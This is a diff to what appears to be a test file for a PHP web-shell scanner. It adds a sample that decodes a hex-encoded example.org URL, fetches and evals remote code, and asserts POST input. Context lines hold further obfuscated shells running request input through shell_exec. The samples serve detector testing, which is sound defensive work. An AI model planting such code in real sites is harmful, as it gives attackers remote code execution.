@@ -94,6 +94,7 @@ $___($_GET['c']);
 `],
   [`\${\${"GLOBALS" in hex escapes}[..]} holding a superglobal name, into shell_exec`, `<?php \${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}["zq"] = "\\x5f\\x50\\x4f\\x53\\x54"; if (isset(\${\${"\\x47LOBALS"}["zq"]}["run"])) echo shell_exec(\${\${"GL\\x4fBALS"}["zq"]}["run"]);
 `],
+  ['the same in capitals (PHP reads function names in any case)', `<?php $s = "68747470733a2f2f6578616d706c652e6f72672f782e747874"; EVAL(FILE_GET_CONTENTS(PACK('H*', $s))); $d = GET_DEFINED_VARS()['_POST']; ASSERT(current($d));`],
 ];
 
 const BENIGN: [string, string][] = [
@@ -159,7 +160,7 @@ describe('scan: held-out set G (session 24), PHP misses, samples of our own', ()
   }
 
   it('ran every case', () => {
-    assert.equal(MALICIOUS.length, 15);
+    assert.equal(MALICIOUS.length, 16);
     assert.equal(BENIGN.length, 7);
   });
 });
